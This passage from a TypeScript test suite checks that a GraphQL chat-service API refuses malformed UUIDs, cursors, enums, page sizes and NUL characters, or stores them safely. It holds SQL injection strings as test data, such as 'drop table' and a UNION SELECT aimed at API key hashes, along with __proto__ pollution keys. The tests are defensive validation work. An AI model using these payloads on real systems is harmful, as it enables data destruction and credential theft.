    ["revokeServiceGrant(id)", "mutation($v: UUID!) { revokeServiceGrant(id: $v) }", () => admin.token],
    ["apiKeys(userId)", "query($v: UUID) { apiKeys(userId: $v) { id } }", () => admin.token],
    ["serviceGrants(serviceId)", "query($v: UUID) { serviceGrants(serviceId: $v) { id } }", () => admin.token],
    ["createApiKey(userId)", `mutation($v: UUID) { createApiKey(name: "k", userId: $v) { id } }`, () => admin.token],
    ["conversations(filter.ownerId)", "query($v: UUID) { conversations(filter: { ownerId: $v }) { totalCount } }", () => admin.token],
    ["auditLogs(filter.actorId)", "query($v: UUID) { auditLogs(filter: { actorId: $v }) { totalCount } }", () => admin.token],
    ["createConversation(input.ownerId)", "mutation($v: UUID) { createConversation(input: { ownerId: $v }) { id } }", () => admin.token],
    ["addMessage(input.conversationId)", `mutation($v: UUID!) { addMessage(input: { conversationId: $v, content: "x" }) { id } }`, () => member.token],
    ["createTranscript(input.conversationId)", "mutation($v: UUID!) { createTranscript(input: { conversationId: $v, format: CSV }) { id } }", () => member.token],
    ["addMessage(input.actAs)", `mutation($v: UUID, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", actAs: $v }) { id } }`, () => admin.token],
    ["grantService(input.serviceId)", "mutation($v: UUID!) { grantService(input: { serviceId: $v, origin: WEB }) { id } }", () => admin.token],
    ["grantService(input.conversationId)", "mutation($v: UUID, $s: UUID!) { grantService(input: { serviceId: $s, conversationId: $v }) { id } }", () => admin.token],
  ];

  it.each(UUID_ARGUMENTS.map(([where, query, token], i) => [where, BAD_UUIDS[i % BAD_UUIDS.length], query, token] as const))(
    "refuses %s = %j in variables with 400 BAD_USER_INPUT",
    (_where, bad, query, token) =>
      leavesNoTrace(app, member, async () => {
        const res = await gql(app, query, { v: bad, c: conversationId, s: service.user.id }, token());
        expectRefused(res, 400, "BAD_USER_INPUT");
      }),
  );

  it.each(BAD_UUIDS.map((bad) => [bad]))("refuses conversation(id: %j) with 400 BAD_USER_INPUT", (bad) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, "query($v: UUID!) { conversation(id: $v) { id } }", { v: bad }, member.token), 400, "BAD_USER_INPUT");
    }),
  );

  it.each([
    ["conversation(id)", `{ conversation(id: "'; drop table users; --") { id } }`],
    ["deleteConversation(id)", `mutation { deleteConversation(id: 12345) }`],
    ["addMessage(input.conversationId)", `mutation { addMessage(input: { conversationId: "x' or 1=1 --", content: "x" }) { id } }`],
    ["grantService(input.serviceId)", `mutation { grantService(input: { serviceId: null, origin: WEB }) { id } }`],
  ])("refuses an invalid UUID literal in %s with 400 GRAPHQL_VALIDATION_FAILED", (_where, query) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, undefined, admin.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  // The UUID scalar lets a stray closing brace through ("{uuid}" is the braced form, "uuid}" is not a UUID);
  // it must be refused like any other malformed id, never reach SQL as an internal error.
  it.each([
    ["conversation(id)", "query($v: UUID!) { conversation(id: $v) { id } }", () => member.token],
    ["addMessage(input.conversationId)", `mutation($v: UUID!) { addMessage(input: { conversationId: $v, content: "x" }) { id } }`, () => member.token],
    ["createTranscript(input.conversationId)", "mutation($v: UUID!) { createTranscript(input: { conversationId: $v, format: CSV }) { id } }", () => member.token],
    ["revokeServiceGrant(id)", "mutation($v: UUID!) { revokeServiceGrant(id: $v) }", () => admin.token],
  ])("refuses a UUID with a stray closing brace in %s with 400 BAD_USER_INPUT", (_where, query, token) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, { v: `${conversationId}}` }, token()), 400, "BAD_USER_INPUT");
    }),
  );

  // An uppercase UUID is the same UUID: it must find the conversation, not answer NOT_FOUND.
  it("finds a conversation by its id in uppercase", async () => {
    const res = await gql(app, "query($v: UUID!) { conversation(id: $v) { id title } }", { v: conversationId.toUpperCase() }, member.token);
    expect({ status: res.status, body: res.json }).toEqual({ status: 200, body: { data: { conversation: { id: conversationId, title: "seed" } } } });
  });
});

// ---------------------------------------------------------------------------------------------------------

describe("SQL and JSON injection in string arguments", () => {
  /** Stores through `run`, reads back through `read`, and checks both against the payload, byte for byte. */
  async function expectRoundTrip(table: string, payloads: string[], run: (payload: string, i: number) => Promise<string>): Promise<void> {
    const before = await snapshot(app);
    for (const [i, payload] of payloads.entries()) {
      const stored = await run(payload, i);
      expect(Buffer.from(stored, "utf8").equals(Buffer.from(payload, "utf8"))).toBe(true);
      expect(stored).toBe(payload);
    }
    const after = await snapshot(app);
    if (table) expect(after[table]).toBe((before[table] as number) + payloads.length);
    await expectTablesExist(app);
    await expectStillServes(app, member);
  }

  const okData = async (query: string, variables: Record<string, unknown>, token: string) => {
    const res = await gql(app, query, variables, token);
    expect(res.json?.errors).toBeUndefined();
    expect(res.status).toBe(200);
    expectNoLeak(res.text, [...res.sent, ...STORED]);
    return res.json!.data as Record<string, any>;
  };

  it("createConversation(input.title) stores every payload as it is", () =>
    expectRoundTrip("conversations", PAYLOADS, async (payload) => {
      const { createConversation } = await okData(`mutation($t: String) { createConversation(input: { title: $t }) { id title } }`, { t: payload }, member.token);
      const row = await app.database.db.knex("conversations").where({ id: createConversation.id }).first("title");
      expect(row.title).toBe(payload);
      const { conversation } = await okData("query($id: UUID!) { conversation(id: $id) { title } }", { id: createConversation.id }, member.token);
      expect(conversation.title).toBe(createConversation.title);
      return conversation.title;
    }));

  it("updateConversation(input.title) stores every payload as it is", () =>
    expectRoundTrip("", PAYLOADS, async (payload) => {
      const { updateConversation } = await okData(`mutation($id: UUID!, $t: String) { updateConversation(id: $id, input: { title: $t }) { title } }`, { id: conversationId, t: payload }, member.token);
      return updateConversation.title;
    }));

  it("addMessage(input.content) stores every payload as it is", () =>
    expectRoundTrip("messages", PAYLOADS, async (payload) => {
      const { addMessage } = await okData(`mutation($c: UUID!, $x: String!) { addMessage(input: { conversationId: $c, content: $x }) { id } }`, { c: conversationId, x: payload }, member.token);
      const { message } = await okData("query($id: UUID!) { message(id: $id) { content } }", { id: addMessage.id }, member.token);
      return message.content;
    }));

  it("addMessage(input.requestId) stores every payload as it is, and a retry with it creates nothing", () =>
    expectRoundTrip("messages", PAYLOADS, async (payload, i) => {
      const query = `mutation($c: UUID!, $r: String) { addMessage(input: { conversationId: $c, content: "retry ${i}", requestId: $r }) { id requestId } }`;
      const first = (await okData(query, { c: conversationId, r: payload }, member.token)).addMessage;
      const again = (await okData(query, { c: conversationId, r: payload }, member.token)).addMessage;
      expect(again.id).toBe(first.id);
      return first.requestId;
    }));

  it("createTranscript(input.requestId) stores every payload as it is, and a retry with it creates nothing", () =>
    expectRoundTrip("transcripts", PAYLOADS, async (payload) => {
      const query = `mutation($c: UUID!, $r: String) { createTranscript(input: { conversationId: $c, format: CSV, toSeq: 1, requestId: $r }) { id requestId } }`;
      const first = (await okData(query, { c: conversationId, r: payload }, member.token)).createTranscript;
      const again = (await okData(query, { c: conversationId, r: payload }, member.token)).createTranscript;
      expect(again.id).toBe(first.id);
      const { transcript } = await okData("query($id: UUID!) { transcript(id: $id) { requestId } }", { id: first.id }, member.token);
      return transcript.requestId;
    }));

  it("addMessage(input.model) stores every payload as it is", () =>
    expectRoundTrip("messages", PAYLOADS, async (payload) => {
      const { addMessage } = await okData(
        `mutation($c: UUID!, $m: String) { addMessage(input: { conversationId: $c, role: ASSISTANT, content: "a", model: $m }) { model } }`,
        { c: conversationId, m: payload },
        admin.token,
      );
      return addMessage.model;
    }));

  it("addMessage(input.metadata, input.toolCalls) store hostile JSON as it is, __proto__ keys included", async () => {
    const before = await snapshot(app);
    const { addMessage } = await okData(
      `mutation($c: UUID!, $m: JSON, $t: JSON) { addMessage(input: { conversationId: $c, role: ASSISTANT, content: "", metadata: $m, toolCalls: $t }) { id metadata toolCalls } }`,
      { c: conversationId, m: JSON_OBJECT_PAYLOAD, t: [JSON_OBJECT_PAYLOAD, ...JSON_SAFE_PAYLOADS] },
      admin.token,
    );
    const { message } = await okData("query($id: UUID!) { message(id: $id) { metadata toolCalls } }", { id: addMessage.id }, member.token);
    for (const read of [addMessage, message]) {
      expect(read.metadata).toEqual(JSON_OBJECT_PAYLOAD);
      expect(Object.keys(read.metadata)).toContain("__proto__");
      expect(read.toolCalls).toEqual([JSON_OBJECT_PAYLOAD, ...JSON_SAFE_PAYLOADS]);
    }
    expect((await snapshot(app)).messages).toBe((before.messages as number) + 1);
    await expectTablesExist(app);
  });

  it("createConversation and updateConversation store hostile parameters JSON as it is", async () => {
    const { createConversation } = await okData(`mutation($p: JSON) { createConversation(input: { parameters: $p }) { id parameters } }`, { p: JSON_OBJECT_PAYLOAD }, member.token);
    expect(createConversation.parameters).toEqual(JSON_OBJECT_PAYLOAD);
    const patched = { ...JSON_OBJECT_PAYLOAD, extra: JSON_SAFE_PAYLOADS };
    const { updateConversation } = await okData(`mutation($id: UUID!, $p: JSON) { updateConversation(id: $id, input: { parameters: $p }) { parameters } }`, { id: createConversation.id, p: patched }, member.token);
    expect(updateConversation.parameters).toEqual(patched);
    const { conversation } = await okData("query($id: UUID!) { conversation(id: $id) { parameters } }", { id: createConversation.id }, member.token);
    expect(conversation.parameters).toEqual(patched);
    expect(Object.keys(conversation.parameters)).toContain("__proto__");
    await expectTablesExist(app);
  });

  it("createApiKey(name) stores every payload as it is", () =>
    expectRoundTrip("api_keys", PAYLOADS, async (payload) => {
      const { createApiKey } = await okData(`mutation($n: String!) { createApiKey(name: $n) { id name } }`, { n: payload }, other.token);
      const { apiKeys } = await okData("{ apiKeys { id name } }", {}, other.token);
      expect(apiKeys.find((key: { id: string }) => key.id === createApiKey.id).name).toBe(createApiKey.name);
      return createApiKey.name;
    }));

  it("createUser(input.displayName, input.externalId) store every payload as it is", () =>
    expectRoundTrip("users", PAYLOADS, async (payload, i) => {
      const { createUser } = await okData(
        `mutation($d: String!, $e: String) { createUser(input: { displayName: $d, externalId: $e }) { displayName externalId } }`,
        { d: payload, e: `${payload}#${i}` },
        admin.token,
      );
      expect(createUser.externalId).toBe(`${payload}#${i}`);
      return createUser.displayName;
    }));

  it("upsertDiscordUser(input.displayName) stores every payload as it is", () =>
    expectRoundTrip("users", PAYLOADS, async (payload, i) => {
      const { upsertDiscordUser } = await okData(
        `mutation($id: String!, $d: String!) { upsertDiscordUser(input: { discordId: $id, displayName: $d }) { displayName discordId } }`,
        { id: String(900000 + i), d: payload },
        admin.token,
      );
      return upsertDiscordUser.displayName;
    }));

  it("recordMetrics(clientBotId, metricType, data) store every payload, and the metrics filter finds exactly them", () =>
    expectRoundTrip("metrics", PAYLOADS, async (payload) => {
      await okData(`mutation($m: [MetricInput!]!) { recordMetrics(input: $m) }`, { m: [{ clientBotId: payload, metricType: payload, data: JSON_OBJECT_PAYLOAD }] }, service.token);
      const { metrics } = await okData(
        "query($b: String, $t: String) { metrics(filter: { clientBotId: $b, metricType: $t }) { totalCount edges { node { clientBotId metricType data } } } }",
        { b: payload, t: payload },
        service.token,
      );
      expect(metrics.totalCount).toBe(1);
      expect(metrics.edges[0].node.data).toEqual(JSON_OBJECT_PAYLOAD);
      expect(metrics.edges[0].node.metricType).toBe(payload);
      return metrics.edges[0].node.clientBotId;
    }));

  it("setSystemConfig(key, description, value) store every payload, and systemConfig(key) finds it", () =>
    expectRoundTrip("system_configs", PAYLOADS, async (payload) => {
      await okData(`mutation($k: String!, $d: String, $v: JSON!) { setSystemConfig(key: $k, description: $d, value: $v) { key } }`, { k: payload, d: payload, v: JSON_OBJECT_PAYLOAD }, admin.token);
      const { systemConfig } = await okData("query($k: String!) { systemConfig(key: $k) { key description value } }", { k: payload }, admin.token);
      expect(systemConfig.description).toBe(payload);
      expect(systemConfig.value).toEqual(JSON_OBJECT_PAYLOAD);
      return systemConfig.key;
    }));

  it.each([
    ["metrics(filter.clientBotId)", "query($s: String) { metrics(filter: { clientBotId: $s }) { totalCount } }", () => service.token, "metrics"],
    ["metrics(filter.metricType)", "query($s: String) { metrics(filter: { metricType: $s }) { totalCount } }", () => admin.token, "metrics"],
    ["auditLogs(filter.action)", "query($s: String) { auditLogs(filter: { action: $s }) { totalCount } }", () => admin.token, "auditLogs"],
    ["auditLogs(filter.targetType)", "query($s: String) { auditLogs(filter: { targetType: $s }) { totalCount } }", () => admin.token, "auditLogs"],
    ["auditLogs(filter.targetId)", "query($s: String) { auditLogs(filter: { targetId: $s }) { totalCount } }", () => admin.token, "auditLogs"],
  ])("%s matches injection strings and wildcards literally (nothing)", (_where, query, token, field) =>
    leavesNoTrace(app, member, async () => {
      for (const s of ["%", "_", "' OR '1'='1", "x' OR 1=1 --", "*", "' UNION SELECT key_hash FROM api_keys --"]) {
        const res = await gql(app, query, { s }, token());
        expect({ s, status: res.status, body: res.json }).toEqual({ s, status: 200, body: { data: { [field]: { totalCount: 0 } } } });
      }
    }),
  );

  it("systemConfig(key) answers NOT_FOUND for an injection string that is not a key", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, "query($k: String!) { systemConfig(key: $k) { key } }", { k: "' OR '1'='1" }, admin.token);
      expectRefused(res, 200, "NOT_FOUND");
    }),
  );

  it.each([
    ["createConversation(input.discordGuildId)", `mutation($s: String) { createConversation(input: { origin: DISCORD, discordGuildId: $s, discordChannelId: "1" }) { id } }`],
    ["createConversation(input.discordChannelId)", `mutation($s: String) { createConversation(input: { origin: DISCORD, discordGuildId: "1", discordChannelId: $s }) { id } }`],
    ["upsertDiscordUser(input.discordId)", `mutation($s: String!) { upsertDiscordUser(input: { discordId: $s, displayName: "d" }) { id } }`],
    ["createUser(input.email)", `mutation($s: String) { createUser(input: { displayName: "e", email: $s }) { id } }`],
  ])("refuses an injection string in %s (not of its format) with BAD_USER_INPUT", (_where, query) =>
    leavesNoTrace(app, member, async () => {
      for (const s of ["1; drop table users", "' OR '1'='1", "x@y' --"]) {
        expectRefused(await gql(app, query, { s }, admin.token), 200, "BAD_USER_INPUT");
      }
    }),
  );

  // A backslash followed by "u0000" is ordinary text (its JSON is "\\\\u0000"), not a NUL: JSON holding it is valid input.
  it.each([
    ["addMessage(input.metadata)", `mutation($j: JSON, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", metadata: $j }) { metadata } }`, (d: any) => d.addMessage.metadata, () => member.token],
    ["createConversation(input.parameters)", `mutation($j: JSON) { createConversation(input: { parameters: $j }) { parameters } }`, (d: any) => d.createConversation.parameters, () => member.token],
    ["setSystemConfig(value)", `mutation($j: JSON!) { setSystemConfig(key: "backslash-u", value: $j) { value } }`, (d: any) => d.setSystemConfig.value, () => admin.token],
  ])("%s stores a literal backslash-u0000 text as it is", async (_where, query, read, token) => {
    const j = { "\\u0000": "\\u0000 is six characters, not a NUL" };
    const data = await okData(query, { j, c: conversationId }, token());
    expect(read(data)).toEqual(j);
    await expectTablesExist(app);
  });

  // PostgreSQL text cannot hold NUL: every string argument must refuse it as bad input, never fail inside SQL.
  const NUL = "a\u0000b";
  it.each([
    ["createConversation(input.title)", `mutation($s: String) { createConversation(input: { title: $s }) { id } }`, () => member.token],
    ["updateConversation(input.title)", `mutation($s: String, $c: UUID!) { updateConversation(id: $c, input: { title: $s }) { id } }`, () => member.token],
    ["addMessage(input.content)", `mutation($s: String!, $c: UUID!) { addMessage(input: { conversationId: $c, content: $s }) { id } }`, () => member.token],
    ["addMessage(input.requestId)", `mutation($s: String, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", requestId: $s }) { id } }`, () => member.token],
    ["addMessage(input.model)", `mutation($s: String, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", model: $s }) { id } }`, () => member.token],
    ["createTranscript(input.requestId)", `mutation($s: String, $c: UUID!) { createTranscript(input: { conversationId: $c, format: JSON, requestId: $s }) { id } }`, () => member.token],
    ["addMessage(input.metadata)", `mutation($j: JSON, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", metadata: $j }) { id } }`, () => member.token],
    ["createApiKey(name)", `mutation($s: String!) { createApiKey(name: $s) { id } }`, () => member.token],
    ["createUser(input.displayName)", `mutation($s: String!) { createUser(input: { displayName: $s }) { id } }`, () => admin.token],
    ["createUser(input.externalId)", `mutation($s: String) { createUser(input: { displayName: "n", externalId: $s }) { id } }`, () => admin.token],
    ["upsertDiscordUser(input.displayName)", `mutation($s: String!) { upsertDiscordUser(input: { discordId: "4242", displayName: $s }) { id } }`, () => admin.token],
    ["recordMetrics(input.clientBotId)", `mutation($s: String!) { recordMetrics(input: [{ clientBotId: $s, metricType: "t" }]) }`, () => service.token],
    ["recordMetrics(input.metricType)", `mutation($s: String!) { recordMetrics(input: [{ clientBotId: "b", metricType: $s }]) }`, () => service.token],
    ["recordMetrics(input.data)", `mutation($j: JSON) { recordMetrics(input: [{ clientBotId: "b", metricType: "t", data: $j }]) }`, () => service.token],
    ["setSystemConfig(key)", `mutation($s: String!) { setSystemConfig(key: $s, value: 1) { key } }`, () => admin.token],
    ["setSystemConfig(description)", `mutation($s: String) { setSystemConfig(key: "nul-test", value: 1, description: $s) { key } }`, () => admin.token],
    ["setSystemConfig(value)", `mutation($j: JSON!) { setSystemConfig(key: "nul-test", value: $j) { key } }`, () => admin.token],
    ["systemConfig(key)", `query($s: String!) { systemConfig(key: $s) { key } }`, () => admin.token],
    ["metrics(filter.clientBotId)", `query($s: String) { metrics(filter: { clientBotId: $s }) { totalCount } }`, () => service.token],
    ["metrics(filter.metricType)", `query($s: String) { metrics(filter: { metricType: $s }) { totalCount } }`, () => service.token],
    ["auditLogs(filter.action)", `query($s: String) { auditLogs(filter: { action: $s }) { totalCount } }`, () => admin.token],
    ["auditLogs(filter.targetType)", `query($s: String) { auditLogs(filter: { targetType: $s }) { totalCount } }`, () => admin.token],
    ["auditLogs(filter.targetId)", `query($s: String) { auditLogs(filter: { targetId: $s }) { totalCount } }`, () => admin.token],
  ])("refuses a NUL character in %s with BAD_USER_INPUT", (_where, query, token) =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, query, { s: NUL, j: { k: NUL }, c: conversationId }, token());
      expectRefused(res, 200, "BAD_USER_INPUT");
    }),
  );

  it.each([
    ["addMessage(input.metadata) a string", `mutation($j: JSON, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", metadata: $j }) { id } }`, "'; drop table messages; --", () => member.token],
    ["addMessage(input.toolCalls) an object", `mutation($j: JSON, $c: UUID!) { addMessage(input: { conversationId: $c, role: ASSISTANT, content: "", toolCalls: $j }) { id } }`, { name: "x" }, () => admin.token],
    ["createConversation(input.parameters) an array", `mutation($j: JSON) { createConversation(input: { parameters: $j }) { id } }`, ["'; drop table conversations; --"], () => member.token],
    ["recordMetrics(input.data) a number", `mutation($j: JSON) { recordMetrics(input: [{ clientBotId: "b", metricType: "t", data: $j }]) }`, 1, () => service.token],
  ])("refuses JSON of the wrong shape in %s with BAD_USER_INPUT", (_where, query, j, token) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, { j, c: conversationId }, token()), 200, "BAD_USER_INPUT");
    }),
  );

  // JSON nested far deeper than any real document: refused as bad input, not an overflow inside the server.
  it.each([
    ["addMessage(input.metadata)", `mutation($j: JSON, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", metadata: $j }) { id } }`, () => member.token],
    ["createConversation(input.parameters)", `mutation($j: JSON) { createConversation(input: { parameters: $j }) { id } }`, () => member.token],
    ["recordMetrics(input.data)", `mutation($j: JSON) { recordMetrics(input: [{ clientBotId: "b", metricType: "t", data: $j }]) }`, () => service.token],
    ["setSystemConfig(value)", `mutation($j: JSON!) { setSystemConfig(key: "deep", value: $j) { key } }`, () => admin.token],
  ])("refuses 20000-deep JSON in %s with BAD_USER_INPUT", (_where, query, token) =>
    leavesNoTrace(app, member, async () => {
      const body = `{"query":${JSON.stringify(query)},"variables":{"c":"${conversationId}","j":${deepJsonText(20000)}}}`;
      expect(Buffer.byteLength(body)).toBeLessThan(LIMIT);
      expectRefused(await send(app, { headers: { ...JSON_HEADERS, ...auth(token()) }, body }), 200, "BAD_USER_INPUT");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("invalid cursors", () => {
  const MESSAGES = "query($id: UUID!, $a: String, $b: String) { conversation(id: $id) { messages(after: $a, before: $b) { totalCount } } }";
  const CONVERSATIONS = "query($a: String, $b: String) { conversations(after: $a, before: $b) { totalCount } }";
  const ISO = "2024-01-01T00:00:00.000Z";

  it.each([
    ["garbage", CONVERSATIONS, () => ({ a: "garbage!!" }), () => member.token],
    ["base64 of garbage", CONVERSATIONS, () => ({ a: b64("not json at all") }), () => member.token],
    ["base64 of an object", CONVERSATIONS, () => ({ a: cursorOf({ updatedAt: ISO }) }), () => member.token],
    ["base64 of an empty array", CONVERSATIONS, () => ({ b: cursorOf([]) }), () => member.token],
    ["base64 of nulls", CONVERSATIONS, () => ({ a: cursorOf([null, null]) }), () => member.token],
    ["a cursor longer than 512 characters", CONVERSATIONS, () => ({ a: cursorOf([ISO, "x".repeat(600)]) }), () => member.token],
    ["SQL inside the cursor's id", CONVERSATIONS, () => ({ a: cursorOf([ISO, "x' or '1'='1"]) }), () => member.token],
    ["SQL inside the cursor's time", CONVERSATIONS, () => ({ a: cursorOf(["now()); drop table users; --", NIL_UUID]) }), () => member.token],
    ["an impossible date of the right shape", CONVERSATIONS, () => ({ a: cursorOf(["2024-13-45T99:99:99.999Z", NIL_UUID]) }), () => member.token],
    ["a NUL character", CONVERSATIONS, () => ({ a: "abc\u0000def" }), () => member.token],
    ["a message cursor (another type's)", CONVERSATIONS, () => ({ a: cursorOf([1]) }), () => member.token],
    ["a conversation cursor (another type's)", MESSAGES, () => ({ id: conversationId, a: cursorOf([ISO, conversationId]) }), () => member.token],
    ["a fractional seq", MESSAGES, () => ({ id: conversationId, a: cursorOf([1.5]) }), () => member.token],
    ["a seq as a string", MESSAGES, () => ({ id: conversationId, b: cursorOf(["1"]) }), () => member.token],
    ["a seq beyond safe integers", MESSAGES, () => ({ id: conversationId, a: cursorOf([1e300]) }), () => member.token],
    ["garbage on metrics", "query($b: String) { metrics(before: $b) { totalCount } }", () => ({ b: "%%%" }), () => service.token],
    ["garbage on users", "query($a: String) { users(after: $a) { totalCount } }", () => ({ a: b64("[") }), () => admin.token],
    ["garbage on auditLogs", "query($a: String) { auditLogs(after: $a) { totalCount } }", () => ({ a: cursorOf([true, false]) }), () => admin.token],
    ["after and before together", CONVERSATIONS, () => ({ a: cursorOf([ISO, NIL_UUID]), b: cursorOf([ISO, NIL_UUID]) }), () => member.token],
  ])("refuses %s with BAD_USER_INPUT", (_case, query, variables, token) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, variables(), token()), 200, "BAD_USER_INPUT");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("page sizes", () => {
  it.each([
    ["conversations(first: -1)", "{ conversations(first: -1) { totalCount } }", () => member.token],
    ["conversations(last: -1)", "{ conversations(last: -1) { totalCount } }", () => member.token],
    ["conversations(first: -2147483648)", "{ conversations(first: -2147483648) { totalCount } }", () => member.token],
    ["conversations(first: 101)", "{ conversations(first: 101) { totalCount } }", () => member.token],
    ["conversations(last: 2147483647)", "{ conversations(last: 2147483647) { totalCount } }", () => member.token],
    ["messages(first: 101)", `{ conversation(id: "CID") { messages(first: 101) { totalCount } } }`, () => member.token],
    ["messages(last: -5)", `{ conversation(id: "CID") { messages(last: -5) { totalCount } } }`, () => member.token],
    ["metrics(first: 1000)", "{ metrics(first: 1000) { totalCount } }", () => service.token],
    ["users(last: 101)", "{ users(last: 101) { totalCount } }", () => admin.token],
    ["auditLogs(first: -1)", "{ auditLogs(first: -1) { totalCount } }", () => admin.token],
    ["first and last together", "{ conversations(first: 1, last: 1) { totalCount } }", () => member.token],
  ])("refuses %s with BAD_USER_INPUT", (_case, query, token) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query.replace("CID", conversationId), undefined, token()), 200, "BAD_USER_INPUT");
    }),
  );

  it("refuses a page size beyond 32-bit Int as a literal with 400 GRAPHQL_VALIDATION_FAILED", () =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, "{ conversations(first: 2147483648) { totalCount } }", undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it.each([
    ["beyond 32-bit Int", 2 ** 31],
    ["a huge float", 1e300],
    ["a fraction", 1.5],
    ["a string", "10"],
  ])("refuses a page size that is %s in variables with 400 BAD_USER_INPUT", (_case, n) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, "query($n: Int) { conversations(first: $n) { totalCount } }", { n }, member.token), 400, "BAD_USER_INPUT");
    }),
  );

  it("answers first: 0 with an empty page that still says more exists", () =>
    leavesNoTrace(app, member, async () => {
      const res = await gql(app, "{ conversations(first: 0) { edges { cursor } pageInfo { hasNextPage endCursor } } }", undefined, member.token);
      expect({ status: res.status, body: res.json }).toEqual({
        status: 200,
        body: { data: { conversations: { edges: [], pageInfo: { hasNextPage: true, endCursor: null } } } },
      });
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("unknown enum values", () => {
  it.each([
    ["ConversationStatus", "query($e: ConversationStatus) { conversations(filter: { status: $e }) { totalCount } }", "DELETED"],
    ["ConversationStatus in lowercase", "query($e: ConversationStatus) { conversations(filter: { status: $e }) { totalCount } }", "active"],
    ["ConversationOrigin", "mutation($e: ConversationOrigin) { createConversation(input: { origin: $e }) { id } }", "SLACK"],
    ["MessageRole", `mutation($e: MessageRole!, $c: UUID!) { addMessage(input: { conversationId: $c, content: "x", role: $e }) { id } }`, "OWNER"],
    ["Role of createApiKey", `mutation($e: Role) { createApiKey(name: "k", role: $e) { id } }`, "SUPERUSER"],
    ["Role of setUserRole", "mutation($e: Role!, $u: UUID!) { setUserRole(id: $u, role: $e) { id } }", "ROOT"],
    ["Role of createUser", `mutation($e: Role!) { createUser(input: { displayName: "g", role: $e }) { id } }`, "GOD"],
    ["Role of the users filter", "query($e: Role) { users(filter: { role: $e }) { totalCount } }", "admin"],
    ["ConversationOrigin of grantService", "mutation($e: ConversationOrigin, $u: UUID!) { grantService(input: { serviceId: $u, origin: $e }) { id } }", "EVERYTHING"],
    ["an enum given as a number", "query($e: ConversationStatus) { conversations(filter: { status: $e }) { totalCount } }", 1],
    ["an enum given as SQL", "query($e: ConversationStatus) { conversations(filter: { status: $e }) { totalCount } }", "ACTIVE' OR '1'='1"],
  ])("refuses an unknown %s in variables with 400 BAD_USER_INPUT", (_case, query, e) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, { e, c: conversationId, u: service.user.id }, admin.token), 400, "BAD_USER_INPUT");
    }),
  );

  it.each([
    ["an unknown literal", "{ conversations(filter: { status: DELETED }) { totalCount } }"],
    ["a string where an enum literal goes", `{ conversations(filter: { status: "ACTIVE" }) { totalCount } }`],
    ["a lowercase role literal", `mutation { addMessage(input: { conversationId: "${NIL_UUID}", content: "x", role: admin }) { id } }`],
  ])("refuses %s with 400 GRAPHQL_VALIDATION_FAILED", (_case, query) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, undefined, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("wrong variable types", () => {
  const ADD = `mutation($in: AddMessageInput!) { addMessage(input: $in) { id } }`;
  it.each([
    ["a number for a String!", ADD, () => ({ in: { conversationId, content: 123 } })],
    ["an object for a String", `mutation($t: String) { createConversation(input: { title: $t }) { id } }`, () => ({ t: { toString: "x" } })],
    ["a missing required input field", ADD, () => ({ in: { conversationId } })],
    ["null for a non-null variable", "query($id: UUID!) { conversation(id: $id) { id } }", () => ({ id: null })],
    ["a missing non-null variable", "query($id: UUID!) { conversation(id: $id) { id } }", () => ({})],
    ["an unknown field in an input object", ADD, () => ({ in: { conversationId, content: "x", isAdmin: true } })],
    ["a string for a list of inputs", "mutation($m: [MetricInput!]!) { recordMetrics(input: $m) }", () => ({ m: "bots" })],
    ["a boolean for an Int", ADD, () => ({ in: { conversationId, content: "x", promptTokens: true } })],
    ["a string for a Float", ADD, () => ({ in: { conversationId, content: "x", costUsd: "NaN" } })],
    ["a date that is not a date", "query($d: DateTime) { metrics(filter: { from: $d }) { totalCount } }", () => ({ d: "yesterday'; --" })],
    ["an array for an input object", ADD, () => ({ in: [{ conversationId, content: "x" }] })],
  ])("refuses %s with 400 BAD_USER_INPUT", (_case, query, variables) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, variables(), query.includes("recordMetrics") || query.includes("metrics") ? service.token : member.token), 400, "BAD_USER_INPUT");
    }),
  );

  it.each([
    ["a variable of the wrong declared type", "query($id: String!) { conversation(id: $id) { id } }", { id: NIL_UUID }],
    ["an undeclared variable", "{ conversation(id: $nope) { id } }", { nope: NIL_UUID }],
    ["a variable declared twice", "query($id: UUID!, $id: UUID!) { conversation(id: $id) { id } }", { id: NIL_UUID }],
  ])("refuses %s with 400 GRAPHQL_VALIDATION_FAILED", (_case, query, variables) =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, query, variables, member.token), 400, "GRAPHQL_VALIDATION_FAILED");
    }),
  );

  it.each([
    ["negative token counts", { promptTokens: -1 }],
    ["an infinite cost", { costUsd: 1e400 }],
    ["a huge cost", { costUsd: 1e12 }],
  ])("refuses %s with BAD_USER_INPUT", (_case, extra) =>
    leavesNoTrace(app, member, async () => {
      // 1e400 is Infinity in JavaScript; in a literal it stays as the client wrote it.
      const fields = Object.entries(extra).map(([key, value]) => `${key}: ${value === Infinity ? "1e400" : value}`).join(", ");
      const res = await gql(app, `mutation { addMessage(input: { conversationId: "${conversationId}", role: ASSISTANT, content: "x", ${fields} }) { id } }`, undefined, admin.token);
